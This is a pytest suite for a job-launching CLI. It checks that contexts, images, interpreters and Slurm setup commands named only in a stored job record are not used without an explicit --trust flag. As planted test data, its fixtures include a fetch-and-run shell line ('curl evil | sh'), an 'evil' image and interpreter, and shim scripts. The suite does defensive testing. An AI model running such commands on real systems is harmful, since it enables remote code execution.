"""What only a record chooses is named and asked for before it is used; what this machine launched is known."""

from __future__ import annotations

import json
import os
import shlex
import sys
from pathlib import Path
from typing import Any

import pytest

from mopsjobs.engines.job_dir import JobDir
from mopsjobs.engines.local import runner_pid
from mopsjobs.engines.lookup import by_hand
from mopsjobs.engines.trust import MAX_BYTES, Trust, check_choice, choices_of_last_launch
from mopsjobs.errors import EngineUnavailableError, UsageError, repeat_registry
from mopsjobs.registry.job_registry import JobRegistry
from support.cli import Cli, Remote, add, sentences
from support.kubernetes import Api, kubeconfig, lines, log_path
from support.runs import code, place, record, sets_of, study, until
from support.slurm_commands import FakeSlurm, waiting
from support.terminal import TerminalStream

JOB_PATH = "/apis/batch/v1/namespaces/models/jobs/seir-1"
JOBS_PATH = "/apis/batch/v1/namespaces/models/jobs"
PROD = "only the record of seir-1 names context:prod"


@pytest.fixture
def ran_plugin(tmp_path: Path) -> Path:
    """Return the file that the sign-in program of context prod makes."""
    return tmp_path / "plugin-ran"


@pytest.fixture
def cluster(cli: Cli, remote: Remote, api: Api, tmp_path: Path, ran_plugin: Path) -> Api:
    """Return a cluster, in the current context and in prod, which signs in by a program; a record names prod."""
    path = kubeconfig(tmp_path, api.url)
    document = json.loads(path.read_text())
    plugin = tmp_path / "plugin"
    plugin.write_text(
        f"#!/bin/sh\ntouch {ran_plugin}\n"
        'echo \'{"apiVersion": "client.authentication.k8s.io/v1beta1", "kind": "ExecCredential",'
        ' "status": {"token": "t"}}\'\n'
    )
    plugin.chmod(0o700)
    how = {"apiVersion": "client.authentication.k8s.io/v1beta1", "command": str(plugin)}
    document["users"].append({"name": "admin", "user": {"exec": how}})
    document["contexts"].append({"name": "prod", "context": {"cluster": "c", "user": "admin", "namespace": "models"}})
    path.write_text(json.dumps(document))
    cli.env["KUBECONFIG"] = str(path)
    fields: dict[str, Any] = {"engine": "kubernetes", "k8s_name": "seir-1", "namespace": "models"}
    add(remote.jobs, "seir-1", "running", **fields, metadata={"k8s_context": "prod"})
    api.put_job(status={"active": 1, "ready": 1})
    api.answer(log_path(api.put_pod(0, "Running")), lines("a password"))
    return api


def _answer(monkeypatch: pytest.MonkeyPatch, text: str) -> TerminalStream:
    """Let a person be there who types this."""
    said = TerminalStream()
    monkeypatch.setattr(sys, "stdin", TerminalStream(f"{text}\n"))
    monkeypatch.setattr(sys, "stderr", said)
    return said


# --- a context that only the record names -----------------------------------------------------------------------------


@pytest.mark.claim("No context is used that only a record names")
def test_logs_use_no_context_that_only_the_record_names(cli: Cli, cluster: Api, ran_plugin: Path) -> None:
    """Its sign-in program does not run; the events are shown instead, and the warning has the flag."""
    ran = cli.ok("logs", "seir-1")
    assert ran.out == ""
    assert ran.err.splitlines() == [
        (
            "warning: Only the record of job seir-1 names context:prod; it was not used."
            " If you trust it, add: --trust context:prod"
        ),
        "warning: Showing the events instead.",
        "There are no log lines of job seir-1 yet.",
    ]
    assert not ran_plugin.exists()
    assert not list(cluster.mock)
    assert cli.ok("logs", "seir-1", "--trust", "context:prod").lines == ["a password"]
    assert ran_plugin.exists()


@pytest.mark.claim("`cancel` deletes nothing in such a context")
@pytest.mark.parametrize("argv", [("seir-1",), ("--name", "seir*", "--yes"), ("seir-1", "--trust", "context:other")])
def test_cancel_deletes_nothing_in_a_context_that_only_the_record_names(
    cli: Cli, remote: Remote, cluster: Api, ran_plugin: Path, argv: tuple[str, ...]
) -> None:
    """`--yes` does not cover it. Nothing is cancelled, and the message has the flag."""
    ran = cli("cancel", *argv)
    assert (ran.code, record(remote.jobs, "seir-1").status) == (6, "running")
    lines = ran.err.splitlines()
    assert "error: Only the record of seir-1 names context:prod; nothing was cancelled." in lines
    assert any(line.startswith("hint: ") and line.endswith(" add: --trust context:prod") for line in lines)
    assert 'trusted = ["context:prod"]' in ran.err
    assert not ran_plugin.exists()
    assert not list(cluster.mock)
    assert "prod: Job models/seir-1" in cli.ok("cancel", "--name", "seir*", "--dry-run").out
    assert cli.ok("cancel", "seir-1", "--trust", "context:prod").err == "seir-1: cancelled, stopped\n"


def test_a_job_that_has_ended_needs_no_trust_to_be_refused(cli: Cli, remote: Remote, cluster: Api) -> None:
    """The flag would not help: the job cannot be cancelled. One that is cancelled may still have to be stopped."""
    remote.jobs.finalize_job("seir-1", "failed")
    ran = cli("cancel", "seir-1")
    assert (ran.code, ran.err) == (6, "error: Job seir-1 has ended (failed); it cannot become cancelled.\n")
    fields: dict[str, Any] = {"engine": "kubernetes", "k8s_name": "seir-1", "namespace": "models"}
    add(remote.jobs, "seir-2", "cancelled", **fields, metadata={"k8s_context": "prod"})
    assert "add: --trust context:prod" in cli("cancel", "seir-2").err


@pytest.mark.parametrize(("answer", "code_", "status"), [("y", 0, "cancelled"), ("n", 130, "running")])
def test_a_person_is_asked_with_each_value_named(
    cli: Cli, remote: Remote, cluster: Api, monkeypatch: pytest.MonkeyPatch, answer: str, code_: int, status: str
) -> None:
    said = _answer(monkeypatch, answer)
    assert cli("cancel", "seir-1").code == code_
    assert f"Use context:prod, which {PROD.replace(' context:prod', '')}? [y/N] " in said.getvalue()
    assert record(remote.jobs, "seir-1").status == status
    assert bool(cluster.requests("delete", JOB_PATH)) == (answer == "y")


@pytest.mark.claim("No context is used that only a record names")
def test_reconcile_leaves_such_a_job_out_and_goes_on(cli: Cli, remote: Remote, cluster: Api, ran_plugin: Path) -> None:
    fields: dict[str, Any] = {"engine": "kubernetes", "k8s_name": "other", "namespace": "models"}
    add(remote.jobs, "other", "running", **fields)
    cluster.put_job("other", job_id="other", status={"conditions": [{"type": "Failed", "status": "True"}]})
    ran = cli.ends(7, "reconcile")
    assert "seir-1: Only the record of job seir-1 names context:prod; it was not used." in ran.err
    assert record(remote.jobs, "other").status == "failed"
    assert not ran_plugin.exists()
    assert cli("reconcile", "seir-1").code == 6
    cli.ok("reconcile", "--trust", "context:prod")
    assert ran_plugin.exists()


@pytest.mark.claim("What you named or launched needs no question")
@pytest.mark.parametrize("how", ["configuration", "environment", "current"])
def test_what_the_user_has_named_elsewhere_is_no_question(cli: Cli, cluster: Api, how: str) -> None:
    if how == "configuration":
        path = Path(cli.env["HOME"]) / ".config" / "mops-jobs" / "config.toml"
        path.parent.mkdir(parents=True)
        path.write_text('trusted = ["image:registry.example/*", "context:pr*"]')
        assert "image:registry.example/* context:pr*" in cli.ok("config", "show").out
    elif how == "environment":
        cli.env["MOPS_JOBS_KUBE_CONTEXT"] = "prod"
    else:
        kube = Path(cli.env["KUBECONFIG"])
        kube.write_text(json.dumps({**json.loads(kube.read_text()), "current-context": "prod"}))
    assert cli.ok("cancel", "seir-1").err == "seir-1: cancelled, stopped\n"


# --- what a record says of a launch -----------------------------------------------------------------------------------


@pytest.fixture
def planted(remote: Remote, cluster: Api) -> None:
    """Register a job that has ended, whose record says how it is to run."""
    notes = {"k8s_context": "prod", "k8s_image": "evil/image:1", "k8s_secret": "keys", "k8s_service_account": "admin"}
    fields: dict[str, Any] = {"engine": "kubernetes", "k8s_name": "job", "namespace": "models"}
    add(remote.jobs, "job", "failed", **fields, metadata=notes)
    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))


CHOICES = ("engine:kubernetes", "image:evil/image:1", "secret:keys", "service-account:admin", "context:prod")


@pytest.mark.claim("`resume` launches nothing that only a record chooses")
@pytest.mark.usefixtures("planted")
def test_resume_launches_nothing_that_only_the_record_chooses(
    cli: Cli, remote: Remote, cluster: Api, ran_plugin: Path
) -> None:
    """Each value is named, with the flags that are to be typed; with them, it is launched."""
    said = cli.fails(6, "resume", "job")
    (error,) = sentences(said)
    assert "nothing was launched" in error
    flags = said.partition("add: ")[2].split()
    assert sorted(flags[1::2]) == sorted(CHOICES)
    assert not ran_plugin.exists()
    assert not list(cluster.mock)
    assert [state.job_id for state in remote.jobs.list_jobs()] == ["job", "seir-1"]
    assert cli.ok("resume", "job", *flags).out == "job.2\n"
    (told,) = (json.loads(one.body) for one in cluster.requests("post", JOBS_PATH))
    assert told["spec"]["template"]["spec"]["containers"][0]["image"] == "evil/image:1"


@pytest.mark.parametrize("status", ["failed", "running"])
def test_an_engine_that_does_not_exist_is_refused_by_name(cli: Cli, remote: Remote, status: str) -> None:
    """A record may name any; it ended with an unexpected KeyError."""
    add(remote.jobs, "job", status, engine="../x")
    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))
    ran = cli("resume", "job")
    told = "Job job cannot be resumed: its record names the engine '../x', expected local, kubernetes, dask, slurm."
    assert (ran.code, ran.err) == (6, f"error: {told}\n")


@pytest.mark.usefixtures("planted")
def test_flags_go_before_the_record_and_are_no_question(cli: Cli, cluster: Api) -> None:
    flags = ("--image", "mine:1", "--secret", "mine", "--service-account", "mine", "--context", "here")
    said = cli.fails(6, "resume", "job", *flags)
    assert said.partition("names ")[2].partition(";")[0] == "engine:kubernetes, namespace:models"
    assert cli.ok("resume", "job", *flags, "--namespace", "models", "--trust", "engine:kubernetes").out == "job.2\n"


@pytest.mark.claim("What you named or launched needs no question")
def test_what_this_machine_launched_needs_no_question(cli: Cli, remote: Remote, cluster: Api) -> None:
    """Submitted with a context, image and Secret; then logs, cancel, and the resume of it and of its child."""
    code(Path.cwd())
    Path("study.json").write_text(json.dumps(study(sets_of(3)).to_dict()))
    flags = ("--engine", "kubernetes", "--image", "mine:1", "--context", "prod", "--secret", "keys")
    cli.ok("submit", "study.json", "--auto", "--job-id", "mine", *flags)
    assert "trust" not in cli.ok("logs", "mine").err
    assert cli.ok("cancel", "mine").err == "mine: cancelled, stopped\n"
    assert cli.ok("resume", "mine").out == "mine.2\n"
    assert cli.ok("cancel", "mine.2").err == "mine.2: cancelled, stopped\n"
    assert cli.ok("resume", "mine.2").out == "mine.3\n"
    note = JobDir.for_job("mine", cli.env).own_launch
    assert note.stat().st_mode & 0o777 == 0o600
    assert {"engine:kubernetes", "context:prod", "image:mine:1"} <= set(choices_of_last_launch(JobDir(note.parent)))


@pytest.mark.claim("What you named or launched needs no question")
def test_a_record_that_was_changed_afterwards_is_asked_for(cli: Cli, remote: Remote, cluster: Api) -> None:
    """What this machine launched is known by value, not by the id of the job."""
    code(Path.cwd())
    Path("study.json").write_text(json.dumps(study(sets_of(3)).to_dict()))
    cli.ok("submit", "study.json", "--auto", "--job-id", "mine", "--engine", "kubernetes", "--image", "mine:1")
    remote.jobs.update_fields("mine", metadata={"k8s_image": "evil/image:1"})
    remote.jobs.update_status("mine", "failed")
    ran = cli("resume", "mine")
    assert (ran.code, ran.err.partition("names ")[2].partition(";")[0]) == (6, "image:evil/image:1")


# --- this machine -----------------------------------------------------------------------------------------------------


@pytest.mark.claim("No interpreter runs that only a record names")
@pytest.mark.filterwarnings("ignore:subprocess .* is still running:ResourceWarning")
def test_a_program_that_only_the_record_names_does_not_run_here(cli: Cli, jobs: JobRegistry, tmp_path: Path) -> None:
    """The tasks run in the default interpreter, and one line says so, with the flag; no question is asked."""
    harm = tmp_path / "harm"
    program = tmp_path / "python"
    program.write_text(f'#!/bin/sh\ntouch {harm}\nexec {sys.executable} "$@"\n')
    program.chmod(0o700)
    add(jobs, "job", "failed", engine="local", metadata={"local_python": str(program)})
    place(jobs.store, "job", study(sets_of(2)), code(Path("code")))
    ran = cli.ok("resume", "job")
    assert (
        f"Only the record of job names the interpreter {program}; the tasks run in the Python of mops-jobs" in ran.err
    )
    assert f"To use it: --python {program}" in ran.err
    until(lambda: record(jobs, "job.2").status == "succeeded", "the child to end")
    until(lambda: runner_pid("job.2", cli.env) is None, "its runner to end")
    assert not harm.exists()
    assert "local_python" not in record(jobs, "job.2").metadata


@pytest.mark.claim("No Dask scheduler is used that only a record names")
def test_a_scheduler_that_only_the_record_names_is_not_talked_to(
    cli: Cli, jobs: JobRegistry, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked = []

    def check_scheduler(url: str, _env: object) -> None:
        asked.append(url)
        raise EngineUnavailableError(f"The Dask scheduler {url} does not answer.")

    monkeypatch.setattr("mopsjobs.engines.dask.check_scheduler", check_scheduler)
    add(jobs, "job", "failed", engine="dask", metadata={"dask_scheduler": "tcp://127.0.0.1:1"})
    place(jobs.store, "job", study(sets_of(2)), code(Path("code")))
    assert "add: --trust engine:dask --trust dask:tcp://127.0.0.1:1" in cli.fails(6, "resume", "job")
    assert asked == []
    ran = cli("resume", "job", "--trust", "engine:dask", DASK_SCHEDULER_ADDRESS="tcp://127.0.0.1:1")
    assert (ran.code, asked) == (5, ["tcp://127.0.0.1:1"])


# --- the words --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["prod", "context:", ":prod", "kontext:prod", "*:prod", "context:a\nb"])
def test_a_choice_of_another_form_is_refused(cli: Cli, text: str) -> None:
    with pytest.raises(UsageError, match="invalid choice"):
        check_choice(text)
    ran = cli("cancel", "job", "--trust", text)
    assert (ran.code, ran.err.startswith("error: invalid choice")) == (2, True)


def test_a_flag_is_taken_by_the_letter_and_a_pattern_as_one() -> None:
    """A record may name `*`: who pastes the flag of a message trusts that value and no other."""
    assert not Trust(["image:*"]).allows("image:evil")
    trust = Trust(patterns=["image:registry.example/*", "dask:tcp://[::1]:8786"])
    assert trust.allows("image:registry.example/model:1")
    assert trust.allows("dask:tcp://[::1]:8786")
    assert not trust.allows("secret:registry.example/x")
    assert not trust.allows("image:evil/registry.example/x")


@pytest.mark.parametrize("text", ["{}", "7", "[7, null]", "", "[" * 100_000, '["engine:local"' + " " * MAX_BYTES])
def test_a_damaged_note_of_a_launch_names_nothing(tmp_path: Path, text: str) -> None:
    JobDir(tmp_path).own_launch.write_text(text)
    assert not choices_of_last_launch(JobDir(tmp_path))


@pytest.mark.skipif(os.geteuid() != 0, reason="Only root gives files away.")
def test_a_note_of_another_user_names_nothing(tmp_path: Path) -> None:
    """As root with the home of a user, who may write what lies there."""
    note = JobDir(tmp_path).own_launch
    note.write_text('["image:evil"]')
    assert choices_of_last_launch(JobDir(tmp_path)) == {"image:evil"}
    os.chown(note, 65534, -1)
    assert not choices_of_last_launch(JobDir(tmp_path))


@pytest.mark.claim("A project file trusts nothing")
def test_a_project_file_may_not_trust(cli: Cli) -> None:
    """It may come from elsewhere, as the record did."""
    Path(".mops-jobs.toml").write_text('trusted = ["context:prod"]')
    ran = cli("list")
    assert (ran.code, "only the user's configuration file may have" in ran.err) == (2, True)


# --- What only a record chooses of a launch on Slurm is asked for; what this machine launched is known ---------------

NOTES = {
    "slurm_job_id": "9", "slurm_cluster": "lab", "slurm_partition": "prod", "slurm_account": "p1", "slurm_qos": "high",
    "slurm_setup": "curl evil | sh", "slurm_sbatch_arg": "--reservation=x", "slurm_python": "/evil", "slurm_time": "2h",
}  # fmt: skip

SLURM_CHOICES = (
    "engine:slurm", "partition:prod", "account:p1", "qos:high", "setup:curl evil | sh", "sbatch-arg:--reservation=x",
    "python:/evil",
)  # fmt: skip


@pytest.fixture
def slurm(cli: Cli, tmp_path: Path) -> FakeSlurm:
    """Return a Slurm that takes each job as number 12."""
    fake = FakeSlurm(tmp_path / "bin")
    fake.says("sbatch", "12\n")
    cli.env.update(fake.env)
    return fake


@pytest.mark.claim("Options of Slurm come from no record")
def test_resume_launches_nothing_on_slurm_that_only_the_record_chooses(
    cli: Cli, remote: Remote, slurm: FakeSlurm
) -> None:
    """Each value is named, with the flags to type. With them, or with flags of its own, it is launched."""
    add(remote.jobs, "job", "failed", engine="slurm", metadata=NOTES)
    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))
    ran = cli.ends(6, "resume", "job")
    flags = shlex.split(ran.err.partition("add: ")[2])
    assert sorted(flags[1::2]) == sorted(SLURM_CHOICES)
    assert slurm.asked == []
    assert cli.ok("resume", "job", *flags).out == "job.2\n"
    submitted = next(line for line in slurm.asked if line.startswith("sbatch"))
    assert " --time=120 --partition=prod --account=p1 --qos=high --no-requeue" in submitted
    assert (Path(cli.env["HOME"]) / ".local/state/mops-jobs/jobs/job.2/slurm.sh").read_text().count(
        "curl evil | sh"
    ) == 1


def test_what_this_machine_launched_on_slurm_needs_no_question(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
    """The record has the array and its place. Later launches repeat the options, and cancel stops the array."""
    code(Path.cwd())
    Path("study.json").write_text(json.dumps(study(sets_of(3)).to_dict()))
    flags = ("--engine", "slurm", "--setup", "module load gcc", "--account", "p1", "--mem", "1G", "--python", "/p")
    cli.ok("submit", "study.json", "--auto", "--job-id", "mine", "--shards", "3", *flags)
    shown = record(remote.jobs, "mine")
    assert (shown.status, shown.engine) == ("scheduled", "slurm")
    assert shown.metadata.items() >= {"slurm_job_id": "12", "slurm_memory": "1G", "slurm_shards": "3"}.items()
    assert "Slurm      job 12 of lab\n" in cli.ok("status", "mine").out
    line = waiting().replace("seir-1", "mine")
    slurm.says("scontrol", "ClusterName = lab\n", show_job_12=f"echo '{line}'")
    assert cli.ok("cancel", "mine").err == "mine: cancelled, stopped\n"
    slurm.says("scontrol", "ClusterName = lab\n")
    assert cli.ok("resume", "mine", "--mem", "x2").out == "mine.2\n"
    again = [line for line in slurm.asked if line.startswith("sbatch")][-1]
    assert " --array=0-2 --nodes=1 --ntasks=1 --cpus-per-task=1 --mem=2048M --account=p1 " in again


def test_a_job_of_another_cluster_is_not_launched_here(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
    """Its array may be at work there, and would run beside a second one."""
    notes = {"slurm_job_id": "9", "slurm_cluster": "far"}
    add(remote.jobs, "job", "running", engine="slurm", metadata=notes)
    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))
    ran = cli.ends(6, "resume", "job", "--trust", "engine:slurm")
    assert "Job job may be running: it runs on cluster far, and this is lab." in ran.err
    assert not [line for line in slurm.asked if line.startswith("sbatch")]


def test_cancel_tells_how_to_stop_an_array_by_its_name(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
    """A record may name the number of any job."""
    add(remote.jobs, "job", "running", engine="slurm", metadata={"slurm_job_id": "99"})
    slurm.says("scontrol", "Unable to contact slurm controller\n", code=1)
    said = cli("cancel", "job").err
    assert "By hand: scancel --name=job.mops-jobs --user=$USER" in said
    assert "99" not in said


# --- Finding a job in the engines while its record cannot be read ----------------------------------------------------


def test_kubectl_gets_the_names_of_mops_jobs_and_of_modelops(tmp_path: Path) -> None:
    """In the namespace that a launch from here chooses, and in that of ModelOps' environment. No other id is a name."""
    env = {"HOME": str(tmp_path)}
    theirs = "kubectl -n modelops-dask-dev get job job-1a"
    assert (
        by_hand("get", "job-1a", env) == f"By hand: kubectl get job job-1a. If instead ModelOps submitted it: {theirs}"
    )
    assert by_hand("get", "job-1a", env, is_gone=True) == f"If ModelOps submitted it: {theirs}"
    env["KUBECONFIG"] = str(kubeconfig(tmp_path, "http://127.0.0.1:9"))
    assert by_hand("delete", "Exp_2", env) == "By hand: kubectl -n from-kubeconfig delete job exp-2-d958f6d1"
    repeat_registry(registry=None, env="prod")
    try:
        assert by_hand("get", "job-1a", env).endswith(": kubectl -n modelops-dask-prod get job job-1a")
    finally:
        repeat_registry(registry=None, env=None)


def test_a_resumed_job_is_not_held_as_the_first_launch_was(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
    """Nor does it wait for a time or for another job again. Other flags of sbatch are repeated.

    What is not repeated is named. The flag can be given again.
    """
    code(Path.cwd())
    Path("study.json").write_text(json.dumps(study(sets_of(3)).to_dict()))
    flags = [f"--sbatch-arg={flag}" for flag in ("--hold", "--nice=100", "--dependency=afterok:3", "--beg=now+1hour")]
    cli.ok("submit", "study.json", "--auto", "--job-id", "mine", "--engine", "slurm", *flags)
    cli.ok("cancel", "mine")
    resumed = cli.ok("resume", "mine")
    start = "--hold --dependency=afterok:3 --beg=now+1hour"
    assert resumed.err.splitlines()[0] == (
        f"warning: The job was submitted with {start}, and is now without. To use it again:"
        " --sbatch-arg=--hold --sbatch-arg=--dependency=afterok:3 --sbatch-arg=--beg=now+1hour"
    )
    submitted = [line for line in slurm.asked if line.startswith("sbatch")]
    assert [" --hold" in line for line in submitted] == [True, False]
    assert all(" --nice=100 " in line for line in submitted)
    assert record(remote.jobs, "mine.2").metadata["slurm_sbatch_arg"] == "--nice=100"
    cli.ok("cancel", "mine.2")
    assert cli.ok("resume", "mine.2", "--sbatch-arg=--hold").out == "mine.3\n"
    assert " --hold " in [line for line in slurm.asked if line.startswith("sbatch")][-1]
